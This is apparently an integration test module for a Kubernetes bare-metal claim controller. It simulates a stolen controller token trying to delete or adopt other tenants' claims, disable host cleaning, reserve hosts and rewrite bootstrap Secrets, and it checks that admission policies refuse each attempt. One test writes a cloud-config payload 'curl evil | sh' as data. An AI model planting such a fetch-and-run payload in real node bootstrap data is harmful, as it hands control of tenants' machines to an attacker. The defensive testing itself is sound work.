"""What a stolen claim-side token can no longer do (issue 40), played as attacks on the devenv's API server.

1. Delete another tenant's claim. Its role creates and deletes HostClaims in every namespace (for HostClaimSets'
   members); config/admission/hostclaim_members_policy.yaml lets it create and delete only claims a HostClaimSet
   owns (a controller owner reference), and never change a claim's owner references (to make one a "member").
2. Turn off a host's cleaning. config/admission/host_fields_policy.yaml lets the claim side set
   automatedCleaningMode only to `metadata`, or to `disabled` on a host it marks held uncleaned for node reuse in the
   same write; a release whose host's mode someone else changed still writes `metadata` and ends.
3. Reserve hosts. The claim side's ServiceAccount (config/manager's Deployment runs --controllers=claims only) is
   no longer in the host guard's tenants-side list: it cannot write tenancy.metalclaim.io/reserved-for.

Played as the devenv's `controller` (the claim side's user), and for 3 as the ServiceAccount a cluster's claim
side runs as (impersonated, bound to the claim side's ClusterRole as config/manager binds it).
"""

from __future__ import annotations

import contextlib
import json
import uuid

import pytest
from kubernetes.client.exceptions import ApiException

from metalclaim_dev.claimlayer import METAL3, TENANT_B, step
from metalclaim_dev.support import eventually
from metalclaim_dev.tenancy import RBAC, as_user

pytestmark = pytest.mark.integration

CLAIMS_SA = "system:serviceaccount:metalclaim-system:metalclaim-controller"
MEMBERS_GUARD = "ValidatingAdmissionPolicy 'metalclaim-hostclaim-members'"
HOSTS_GUARD = "ValidatingAdmissionPolicy 'metalclaim-host-fields'"
HOLD = "metalclaim.io/reuse-hold"
RESERVED_FOR = "tenancy.metalclaim.io/reserved-for"
MERGE = "application/merge-patch+json"


def refused_by(guard: str, call) -> str:
    """The guard's 403 message for `call`; fails when it went through (or something else refused it)."""
    try:
        call()
    except ApiException as refusal:
        assert refusal.status == 403, refusal.body
        message = json.loads(refusal.body)["message"]
        assert guard in message, f"refused, but not by {guard}: {message}"
        return message
    pytest.fail(f"accepted: {guard} let the claim side through")


def claims(clients, identity: str = "controller"):
    return clients[identity].resources.get(api_version=METAL3, kind="HostClaim")


def hosts(clients, identity: str = "controller"):
    return clients[identity].resources.get(api_version=METAL3, kind="BareMetalHost")


def claim_body(name: str, namespace: str = TENANT_B, owner: dict | None = None) -> dict:
    metadata = {"name": name, "namespace": namespace}
    if owner:
        metadata["ownerReferences"] = [owner]
    return {"apiVersion": METAL3, "kind": "HostClaim", "metadata": metadata, "spec": {"online": False}}


@pytest.fixture
def claim_set(clients):
    """A HostClaimSet of tenant B with no replicas (no controller runs here): what a member's owner reference names."""
    sets = clients["admin"].resources.get(api_version=METAL3, kind="HostClaimSet")
    name = f"s{uuid.uuid4().hex[:6]}"
    made = sets.create(
        body={
            "apiVersion": METAL3,
            "kind": "HostClaimSet",
            "metadata": {"name": name, "namespace": TENANT_B},
            "spec": {
                "replicas": 0,
                "selector": {"matchLabels": {"set": name}},
                "template": {"metadata": {"labels": {"set": name}}, "spec": {}},
            },
        }
    )
    yield made.to_dict()
    with contextlib.suppress(ApiException):
        sets.delete(name=name, namespace=TENANT_B)


def owner_of(claim_set: dict) -> dict:
    """The owner reference _claimsets/pure/plan.py member_body writes."""
    return {
        "apiVersion": METAL3,
        "kind": "HostClaimSet",
        "name": claim_set["metadata"]["name"],
        "uid": claim_set["metadata"]["uid"],
        "controller": True,
        "blockOwnerDeletion": True,
    }


# -- 1. claims ------------------------------------------------------------------------------------------------------


def test_the_claim_side_cannot_delete_another_tenants_claim(clients, rack):
    rack.claim("b-own", namespace=TENANT_B, identity="tenant-b")
    message = refused_by(MEMBERS_GUARD, lambda: claims(clients).delete(name="b-own", namespace=TENANT_B))
    assert "user metalclaim-controller (the metalclaim claim side) may not delete it" in message
    assert "no HostClaimSet or MetalClaimMachine owns it" in message
    assert rack.read_claim("b-own", TENANT_B)["metadata"].get("deletionTimestamp") is None


def test_the_claim_side_cannot_make_a_tenants_claim_a_member_to_delete_it(clients, rack, claim_set):
    rack.claim("b-adopted", namespace=TENANT_B, identity="tenant-b")
    adopt = {"metadata": {"ownerReferences": [owner_of(claim_set)]}}
    message = refused_by(
        MEMBERS_GUARD,
        lambda: claims(clients).patch(body=adopt, name="b-adopted", namespace=TENANT_B, content_type=MERGE),
    )
    assert "may not change metadata.ownerReferences" in message
    assert not rack.read_claim("b-adopted", TENANT_B)["metadata"].get("ownerReferences")


def test_the_claim_side_creates_only_set_members(clients, rack):
    name = f"planted-{uuid.uuid4().hex[:4]}"
    message = refused_by(MEMBERS_GUARD, lambda: claims(clients).create(body=claim_body(name)))
    assert "it would have no controller owner reference of kind HostClaimSet" in message


def test_the_claim_side_still_makes_and_deletes_a_sets_members(clients, rack, claim_set):
    name = f"{claim_set['metadata']['name']}-0"
    made = claims(clients).create(body=claim_body(name, owner=owner_of(claim_set))).to_dict()
    # As _claimsets/io/reconcile.py deletes a member: by name, its uid the precondition.
    claims(clients).delete(name=name, namespace=TENANT_B, body={"preconditions": {"uid": made["metadata"]["uid"]}})

    def gone() -> bool:
        try:
            claims(clients, "admin").get(name=name, namespace=TENANT_B)
        except ApiException as error:
            return error.status == 404
        return False

    eventually(gone, timeout=30, message="the member deleted")


# -- 2. cleaning ----------------------------------------------------------------------------------------------------


def bound_host(devenv, rack, tmp_path, name: str) -> None:
    """Host `name` bound to tenant B's claim `name` by the claim layer, and provisioned."""
    rack.policy()
    rack.host(name)
    rack.claim(name, namespace=TENANT_B, identity="tenant-b")
    assert step("hostclaim_bind", devenv, tmp_path, rack)["bound"] == 1
    rack.set_state(name, "provisioned")


def set_mode(clients, rack, host: str, mode: str, identity: str = "controller", annotations: dict | None = None):
    body: dict = {"spec": {"automatedCleaningMode": mode}}
    if annotations:
        body["metadata"] = {"annotations": annotations}
    return hosts(clients, identity).patch(body=body, name=host, namespace=rack.namespace, content_type=MERGE)


def test_the_claim_side_cannot_disable_cleaning_on_a_bound_or_released_host(devenv, clients, rack, tmp_path):
    bound_host(devenv, rack, tmp_path, "h1")
    message = refused_by(HOSTS_GUARD, lambda: set_mode(clients, rack, "h1", "disabled"))
    assert "may not set spec.automatedCleaningMode to disabled" in message
    # A hold mark that does not say the host is left uncleaned does not open it either.
    cleaned_hold = {HOLD: json.dumps({"namespace": TENANT_B, "key": "k", "claim": "h1", "cleaned": True})}
    refused_by(HOSTS_GUARD, lambda: set_mode(clients, rack, "h1", "disabled", annotations=cleaned_hold))

    # Released: the claim deleted, its host scrubbed (metadata cleaning), waiting for its deprovisioning.
    claims(clients, "tenant-b").delete(name="h1", namespace=TENANT_B)
    waiting = step("hostclaim_release", devenv, tmp_path, rack)
    assert waiting["claims"][0]["state"] == "waiting"
    assert rack.read_host("h1")["spec"]["automatedCleaningMode"] == "metadata"
    refused_by(HOSTS_GUARD, lambda: set_mode(clients, rack, "h1", "disabled"))
    assert rack.read_host("h1")["spec"]["automatedCleaningMode"] == "metadata"


def test_a_release_never_stalls_on_a_mode_someone_else_changed(devenv, clients, rack, tmp_path):
    bound_host(devenv, rack, tmp_path, "h2")
    claims(clients, "tenant-b").delete(name="h2", namespace=TENANT_B)
    assert step("hostclaim_release", devenv, tmp_path, rack)["claims"][0]["state"] == "waiting"
    set_mode(clients, rack, "h2", "disabled", identity="admin")  # the infra team, or anybody else

    # The next run writes metadata back (the guard lets it), and the release goes on once deprovisioned.
    assert step("hostclaim_release", devenv, tmp_path, rack)["claims"][0]["state"] == "waiting"
    assert rack.read_host("h2")["spec"]["automatedCleaningMode"] == "metadata"
    rack.set_state("h2", "available")
    assert step("hostclaim_release", devenv, tmp_path, rack)["claims"][0]["state"] == "released"
    assert "consumerRef" not in rack.read_host("h2")["spec"]


def test_the_claim_side_may_disable_cleaning_only_with_an_uncleaned_hold_mark(clients, rack):
    """What reuse.scrubbed writes for a policy's nodeReuse.clean false: the mode and the mark in one write."""
    rack.host("h3")
    hold = {"namespace": TENANT_B, "key": "md-0", "claim": "c", "until": "2030-01-01T00:00:00Z", "cleaned": False}
    set_mode(clients, rack, "h3", "disabled", annotations={HOLD: json.dumps(hold, sort_keys=True)})
    assert rack.read_host("h3")["spec"]["automatedCleaningMode"] == "disabled"
    set_mode(clients, rack, "h3", "metadata")  # the hold's end (reuse.ended): always allowed


# -- 3. reservations ------------------------------------------------------------------------------------------------


@contextlib.contextmanager
def claim_side_account(devenv, clients):
    """The claim side's ServiceAccount with the claim side's ClusterRole, as config/manager binds it."""
    bindings = clients["admin"].resources.get(api_version=RBAC, kind="ClusterRoleBinding")
    name = f"test-claim-side-{uuid.uuid4().hex[:6]}"
    subject = {"kind": "ServiceAccount", "name": "metalclaim-controller", "namespace": "metalclaim-system"}
    bindings.create(
        body={
            "apiVersion": RBAC,
            "kind": "ClusterRoleBinding",
            "metadata": {"name": name},
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "ClusterRole",
                "name": "metalclaim-controller",
            },
            "subjects": [subject],
        }
    )
    reviews = clients["admin"].resources.get(api_version="authorization.k8s.io/v1", kind="SubjectAccessReview")
    review = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SubjectAccessReview",
        "spec": {
            "user": CLAIMS_SA,
            "groups": ["system:serviceaccounts", "system:serviceaccounts:metalclaim-system"],
            "resourceAttributes": {"group": "metal3.io", "resource": "baremetalhosts", "verb": "update"},
        },
    }
    try:
        eventually(
            lambda: reviews.create(body=review).to_dict()["status"].get("allowed"),
            timeout=30,
            interval=0.1,
            message="the claim side's ServiceAccount authorized",
        )
        yield as_user(devenv, CLAIMS_SA, "system:serviceaccounts:metalclaim-system")
    finally:
        bindings.delete(name=name)


def test_the_claim_sides_token_cannot_reserve_a_host(devenv, clients, rack):
    rack.host("h4")
    with claim_side_account(devenv, clients) as claim_side:
        api = claim_side.resources.get(api_version=METAL3, kind="BareMetalHost")
        reserve = {"metadata": {"annotations": {RESERVED_FOR: "attacker"}}}
        message = refused_by(
            HOSTS_GUARD, lambda: api.patch(body=reserve, name="h4", namespace=rack.namespace, content_type=MERGE)
        )
        assert f"user {CLAIMS_SA} (the metalclaim claim side) may not change" in message
        assert f"metadata.annotations[{RESERVED_FOR}]" in message
        # What it owns it still writes.
        api.patch(body={"spec": {"online": False}}, name="h4", namespace=rack.namespace, content_type=MERGE)
    assert RESERVED_FOR not in (rack.read_host("h4")["metadata"].get("annotations") or {})


# -- 4. Cluster API machines' metaData ------------------------------------------------------------------------------


def test_the_claim_side_writes_a_machines_metadata_secret_and_no_tenant_secret(clients, rack):
    """Its Secret rights in tenant namespaces now include create and update (a Cluster API machine's metaData,
    _capi/pure/machine.py metadata_secret): the claim-side Secret guard holds them to Secrets labelled
    metalclaim.io/metadata-of-machine, so a stolen token cannot rewrite a tenant's bootstrap data (its nodes' join
    credentials) or any other Secret of the tenant, nor relabel one to rewrite it next."""
    guard = "ValidatingAdmissionPolicy 'metalclaim-claim-side-secrets'"
    tenant_secrets = clients["tenant-b"].resources.get(api_version="v1", kind="Secret")
    ours = clients["controller"].resources.get(api_version="v1", kind="Secret")
    name = f"boot-{uuid.uuid4().hex[:4]}"
    bootstrap = {
        "apiVersion": "v1",
        "kind": "Secret",
        "type": "cluster.x-k8s.io/secret",
        "metadata": {"name": name, "namespace": TENANT_B},
        "stringData": {"value": "#cloud-config\n", "format": "cloud-config"},
    }
    kept = tenant_secrets.create(body=bootstrap).to_dict()
    rewritten = {**bootstrap, "stringData": {"value": "#cloud-config\nruncmd: [curl evil | sh]\n"}}
    message = refused_by(guard, lambda: ours.replace(body=rewritten, name=name, namespace=TENANT_B))
    assert f"Secret {TENANT_B}/{name}" in message and "metalclaim.io/metadata-of-machine" in message
    relabelled = {
        **rewritten,
        "metadata": {**bootstrap["metadata"], "labels": {"metalclaim.io/metadata-of-machine": "x"}},
    }
    refused_by(guard, lambda: ours.replace(body=relabelled, name=name, namespace=TENANT_B))
    with pytest.raises(ApiException) as refusal:  # no delete right there at all (RBAC)
        ours.delete(name=name, namespace=TENANT_B)
    assert refusal.value.status == 403
    assert (
        tenant_secrets.get(name=name, namespace=TENANT_B).metadata.resourceVersion
        == kept["metadata"]["resourceVersion"]
    )
    # What it may write there: a labelled metaData Secret, made, rewritten, never turned into a copy.
    metadata = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {
            "name": f"{name}-metadata",
            "namespace": TENANT_B,
            "labels": {"metalclaim.io/metadata-of-machine": "u"},
        },
        "stringData": {"metaData": "{}"},
    }
    ours.create(body=metadata)
    ours.replace(
        body={**metadata, "stringData": {"metaData": '{"local-hostname": "w"}'}},
        name=f"{name}-metadata",
        namespace=TENANT_B,
    )
    as_copy = {**metadata, "metadata": {**metadata["metadata"], "labels": {"metalclaim.io/copy-of-claim": "u"}}}
    with pytest.raises(ApiException) as refusal:  # this guard's, or the copy-on-create policy's (anybody's)
        ours.replace(body=as_copy, name=f"{name}-metadata", namespace=TENANT_B)
    assert refusal.value.status == 403 and "denied request" in refusal.value.body
    tenant_secrets.delete(name=f"{name}-metadata", namespace=TENANT_B)
    tenant_secrets.delete(name=name, namespace=TENANT_B)
